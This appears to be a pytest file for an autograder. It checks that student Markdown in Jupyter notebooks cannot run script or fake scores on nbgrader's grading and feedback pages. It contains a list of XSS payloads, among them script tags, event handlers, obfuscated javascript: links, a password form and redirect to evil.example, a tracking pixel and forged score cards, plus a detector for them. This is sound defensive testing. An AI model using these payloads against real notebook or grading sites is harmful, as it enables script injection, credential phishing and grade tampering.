"""What students write into their notebooks, opened in a browser as an instructor would.

Each text is tried twice: as nbgrader shows the notebook that was handed in, where it must act, so
that we know it to be an attack; and as our configuration leaves it, all texts in one notebook. The
pages are those of the formgrader and of the feedback, made by nbgrader's own templates.
"""

import copy
import json
from functools import cache
from pathlib import Path
from typing import Any

import nbgrader
import pytest
from nbconvert import HTMLExporter
from nbconvert.filters.markdown_mistune import InvalidNotebook
from traitlets.config import Config

from autograder.exercises.manifest import exercises_of, lesson
from autograder.grading.grade import grade
from autograder.learner.card import card_html
from autograder.learner.check import warm_backend
from autograder.nbgrader.cells import grade_id
from autograder.nbgrader.notebook_repair import repaired
from autograder.nbgrader.released_notebook import released_notebook
from autograder.nbgrader.submitted_notebook import as_node
from autograder.submissions.submission import Submission

LESSON = "1_loss_functions"
RELEASED = released_notebook(lesson(LESSON))
TEMPLATES = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader" / "templates"
HIT = "(window.hits=window.hits||[]).push(1)"
END = "This is the end of the notebook."
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8"
    "z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
CARD = (
    '<div role="group" aria-label="Feedback" style="border: 1px solid">'
    "<strong>softmax</strong> everything holds 3 of 3 points</div>"
)

MARKDOWN = {
    "script": f"<script>{HIT}</script>",
    "script-within-a-line": f"Well <script>{HIT}</script> said.",
    "script-in-a-table": f"| a |\n|---|\n| <script>{HIT}</script> |",
    "script-in-a-list": f"- one\n- <script>{HIT}</script>",
    "script-in-a-quotation": f"> <script>{HIT}</script>",
    "script-in-a-diagram": f"```mermaid\n</pre><script>{HIT}</script>\n```",
    "script-in-capitals": f"<ScRiPt\n>{HIT}</sCrIpT\n>",
    "handler-of-a-picture": f'<img src="x" onerror="{HIT}">',
    "handler-of-svg": f'<svg onload="{HIT}"></svg>',
    "handler-of-details": f'<details open ontoggle="{HIT}">x</details>',
    "frame": '<iframe srcdoc="<script>parent.hits=[1]</script>"></iframe>',
    "object": f'<object data="data:text/html,<script>{HIT}</script>"></object>',
    "style": "<style>.score { display: none }</style>",
    "cover": '<div style="position: fixed; inset: 0; background: white">26 / 26</div>',
    "form": '<form action="https://evil.example"><input name="password"></form>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="900; url=https://evil.example">',
    "link-to-a-script": f"[click](javascript:{HIT})",
    "link-to-a-script-in-entities": f"[click](java&#115;cript&colon;{HIT})",
    "link-to-a-script-by-reference": f"[click][x]\n\n[x]: javascript:{HIT}",
    "link-to-a-script-in-angles": "<javascript:alert(1)>",
    "link-to-a-page-as-data": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "link-within-the-site": "[the solution](/lab/tree/evil.ipynb)",
    "link-to-a-page-beside-it": "[my figure](figure.html)",
    "picture-that-tells-who-reads": "![](https://evil.example/pixel.png)",
    "picture-that-signs-out": "![](/logout)",
    "picture-by-reference": "![x][p]\n\n[p]: https://evil.example/pixel.png",
    "attached-picture-with-a-handler": "![](attachment:quoted.png)",
    "forged-card": CARD,
    "forged-heading-of-nbgrader": '<div class="panel-heading">Score: 3.0 / 3.0</div>',
    "heading-in-the-place-of-a-score": "# check_softmax",
    "heading-in-the-place-of-a-comment": "# reflection_1-comment",
    "text-field-without-end": "<textarea>",
    "plain-text-to-the-end": "<plaintext>",
}
ATTACHED = {"quoted.png": {f'image/x" onerror="{HIT}" x="': PIXEL}}

# What a page must not do or hold; each line is one finding.
FINDINGS = """
end => {
  const found = [];
  const within = document.querySelector("#notebook-container");
  const all = selector => within ? [...within.querySelectorAll(selector)] : [];
  if (window.hits) found.push("a script ran");
  const active = "script,style,iframe,object,embed,form,base,meta,link,textarea:not(.comment)," +
    "plaintext,details[ontoggle],svg";
  for (const each of all(active))
    if (!each.closest(".output_html")) found.push("element " + each.tagName);
  for (const each of all("*"))
    for (const name of each.getAttributeNames())
      if (name.startsWith("on")) found.push("attribute " + name);
  for (const each of all("a[href]"))
    if (!/^(https?:\\/\\/|mailto:|#)/.test(each.getAttribute("href")))
      found.push("link " + each.getAttribute("href"));
  for (const each of all("img"))
    if (!/^data:image\\/(png|jpeg|gif|webp);/.test(each.getAttribute("src")))
      found.push("picture " + each.getAttribute("src"));
  for (const each of all(".text_cell_render [role], .text_cell_render [style]:not(td, th), " +
      ".text_cell_render [class]:not(.anchor-link, .highlight, .highlight *, [class^=language-])"))
    found.push("dressed up " + each.outerHTML.slice(0, 60));
  for (const name of ["check_softmax", "reflection_1-comment"])
    for (const each of all("#" + name))
      if (!each.matches("input, textarea.comment")) found.push("in the place of " + name);
  if (!document.body.innerText.includes(end)) found.push("the end is hidden");
  return found;
}
"""


@cache
def exporter_of(template: str) -> HTMLExporter:
    """Nbgrader's exporter, as the formgrader and the feedback have it."""
    settings = {"template_name": template, "extra_template_basedirs": [str(TEMPLATES)]}
    css = TEMPLATES.parent / "static" / "node_modules" / "bootstrap" / "dist" / "css"
    settings["extra_template_paths"] = [str(css)]
    return HTMLExporter(config=Config({"HTMLExporter": settings}))


def formgraded(notebook: dict[str, Any], template: str = "formgrade") -> str:
    """The page that nbgrader makes of a notebook."""
    resources = {"index": 0, "total": 1, "base_url": "", "student": "eve", "notebook_id": LESSON}
    resources["nbgrader"] = {"notebook": LESSON, "score": 0, "max_score": 26, "late_penalty": 0}
    node = as_node(copy.deepcopy(notebook))
    for cell in node.cells:
        cell.metadata.get("nbgrader", {}).update(score=0.0, comment="")
    page, _ = exporter_of(template).from_notebook_node(node, resources=resources)
    return str(page)


def text_cell(source: str, number: int) -> dict[str, Any]:
    """A Markdown cell of the student's own."""
    made = {"cell_type": "markdown", "id": f"own-{number}", "metadata": {}, "source": source}
    return {**made, "attachments": ATTACHED} if "attachment:" in source else made


def handed_in(*sources: str) -> dict[str, Any]:
    """The lesson's notebook with texts before and in the answer, and the end after them."""
    notebook = copy.deepcopy(RELEASED)
    texts = [text_cell(source, number) for number, source in enumerate(sources)]
    for cell in notebook["cells"]:
        if grade_id(cell) == "reflection_1":
            cell["source"] = sources[0]
    notebook["cells"] = [*texts, *notebook["cells"], text_cell(END, len(sources))]
    return notebook


@pytest.fixture(scope="module")
def findings(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """Opens a page and returns what there is to find in it."""
    folder = tmp_path_factory.mktemp("pages")
    context = browser.new_context()
    asked: list[str] = []
    ours: set[str] = set()  # what the lesson itself holds

    def refuse(route: Any) -> None:
        asked.append(route.request.url)
        route.abort()

    context.route(lambda address: not address.startswith("file:"), refuse)

    page = context.new_page()

    def found(html: str) -> list[str]:
        if not ours:
            seen = looked_at(formgraded(RELEASED))
            ours.update(each for each in seen if each.startswith(("link", "dressed up")))
        return [each for each in looked_at(html) if each not in ours]

    def looked_at(html: str) -> list[str]:
        path = folder / "page.html"
        path.write_text(html, encoding="utf-8")
        asked.clear()
        page.goto(path.as_uri())
        page.wait_for_timeout(20)  # what runs at once has run; what waits has to be found by form
        seen: list[str] = page.evaluate(FINDINGS, END)
        seen += [f"asked for {each}" for each in asked if "evil.example" in each]
        return seen

    return found


@pytest.mark.sampled(every=12)
@pytest.mark.parametrize("name", MARKDOWN)
def test_text_acts_in_the_page_of_stock_nbgrader(findings: Any, name: str) -> None:
    plain = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    cells = [text_cell(MARKDOWN[name], 1), text_cell(END, 2)]
    assert findings(formgraded({**plain, "cells": cells}))


@pytest.fixture(scope="module")
def card() -> dict[str, Any]:
    """A card on a submission whose texts would act in a browser."""
    text = "<script>hits=1</script><img src=x onerror=hits=1>$\\\\href{javascript:hits=1}{x}$"
    module = f"print({text!r})\n\ndef softmax(logits):\n    print({text!r})\n"
    module += f"    raise type({text!r}, (Exception,), {{}})({text!r})\n\n"
    module += f"def sigmoid(logits):\n    return {text!r}\n\n"
    files = {"course/losses.py": module.encode(), f"course/{text[:8].replace('/', '')}.py": b""}
    result = grade(Submission("eve", files), warm_backend(), exercises_of(LESSON))
    assert "hits=1" in card_html(result)
    data = {"text/html": card_html(result), "text/plain": "0.0"}
    return {"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": None}


@pytest.mark.parametrize("template", ["formgrade", "feedback"])
def test_no_text_acts_in_the_page_that_we_leave(
    findings: Any, card: dict[str, Any], template: str
) -> None:
    notebook = repaired(handed_in(*MARKDOWN.values()), RELEASED).notebook
    for cell in notebook["cells"]:
        if grade_id(cell) == "check_softmax":
            cell["outputs"] = [card]
    page = formgraded(notebook, template)
    assert findings(page) == []
    for text in ("evil.example", "everything holds 3 of 3 points", "hits=1"):
        assert text in page  # it is there to be read


@pytest.mark.parametrize("name", MARKDOWN)
def test_answer_that_would_act_is_shown_as_typed(name: str) -> None:
    right = repaired(handed_in(MARKDOWN[name]), RELEASED)
    (answer,) = [cell for cell in right.notebook["cells"] if grade_id(cell) == "reflection_1"]
    assert answer["source"] == f"```\n{MARKDOWN[name]}\n```" or "```mermaid" in MARKDOWN[name]
    assert right.notices[0].startswith("2 cells are shown as typed")


HONEST = {
    "prose": "I would *weigh* the term of the **sick** patients more, by $\\frac{w}{n} < 1$.",
    "less-than": "If p < 0.5 and q > 0.5, then a<b.",
    "link": "See [the paper](https://example.org/a_b?c=1&d=2) or <https://example.org>.",
    "code": "Write `<b>` or\n\n```python\nprint('<script>')\n```",
    "table": "| a | b |\n|:--|--:|\n| 1 | 2 |",
    "headings-and-lists": "## Why\n\n1. one\n2. two\n   - three\n\n> said\n\n---",
    "formulas": "$$\\begin{aligned} a &< b \\\\ c &> d \\end{aligned}$$",
    "plain-tags": "H<sub>2</sub>O, x<sup>2</sup><br>new line",
    "picture-attached": "![a plot](attachment:plot.png)",
    "picture-as-data": f"![a plot](data:image/png;base64,{PIXEL})",
    "other-scripts": "Ответ: 重み, ∑ᵢ wᵢ ≤ 1 — naïve",
}


@pytest.mark.parametrize("name", HONEST)
def test_honest_answer_stays_as_it_is(name: str) -> None:
    right = repaired(with_picture(handed_in(HONEST[name])), RELEASED)
    assert right.notices == []
    (answer,) = [cell for cell in right.notebook["cells"] if grade_id(cell) == "reflection_1"]
    assert answer["source"] == HONEST[name]


@pytest.mark.exhaustive
def test_honest_texts_hold_nothing_that_the_browser_would_find(findings: Any) -> None:
    right = repaired(with_picture(handed_in(*HONEST.values())), RELEASED)
    assert right.notices == []
    assert findings(formgraded(right.notebook)) == []


def with_picture(notebook: dict[str, Any]) -> dict[str, Any]:
    """A notebook whose attached pictures are there."""
    for cell in notebook["cells"]:
        if "attachment:" in "".join(cell["source"]):
            cell["attachments"] = {"plot.png": {"image/png": PIXEL}}
    return notebook


@pytest.mark.exhaustive
def test_missing_attachment_stops_no_page(findings: Any) -> None:
    notebook = handed_in("![](attachment:gone.png)")
    with pytest.raises(InvalidNotebook):
        formgraded(notebook)
    assert findings(formgraded(repaired(notebook, RELEASED).notebook)) == []


ELSEWHERE = f"\"><script>{HIT}</script><img src=x onerror='{HIT}'>"


def test_nothing_acts_from_where_texts_are_not_expected(findings: Any) -> None:
    """Ids, tags, metadata, raw cells, code, outputs, names."""
    notebook = handed_in(END)
    metadata = {"tags": [ELSEWHERE], "raw_mimetype": "text/html", "name": ELSEWHERE}
    data = {"text/html": ELSEWHERE, "application/javascript": HIT, "text/plain": "3.0"}
    output = {"output_type": "display_data", "data": data, "metadata": {"filenames": ELSEWHERE}}
    code = {"cell_type": "code", "source": ELSEWHERE, "outputs": [output], "execution_count": 1}
    raw = {"cell_type": "raw", "source": ELSEWHERE}
    notebook["cells"] += [
        {**each, "id": ELSEWHERE, "metadata": metadata, "attachments": {ELSEWHERE: {}}}
        for each in (code, raw, text_cell("text", 9))
    ]
    notebook["metadata"] = dict.fromkeys(("title", "kernelspec", "widgets", "lang"), ELSEWHERE)
    right = repaired(notebook, RELEASED, f"The notebook was handed in as {ELSEWHERE!r}.")
    for template in ("formgrade", "feedback"):
        assert findings(formgraded(right.notebook, template)) == []
    assert ELSEWHERE not in json.dumps(right.notebook["metadata"])


def test_text_that_takes_long_to_render_is_shown_as_typed() -> None:
    for text in ("\\\\(" * 3000, "[" * 10_001, "\\begin{a}" * 1000):
        right = repaired(handed_in(text), RELEASED)
        (answer,) = [cell for cell in right.notebook["cells"] if grade_id(cell) == "reflection_1"]
        assert answer["source"].startswith("```\n")
    many = repaired(handed_in(*["word " * 1000] * 12), RELEASED)
    assert many.notices[0].startswith("5 cells are shown as typed")  # the last is that of the end
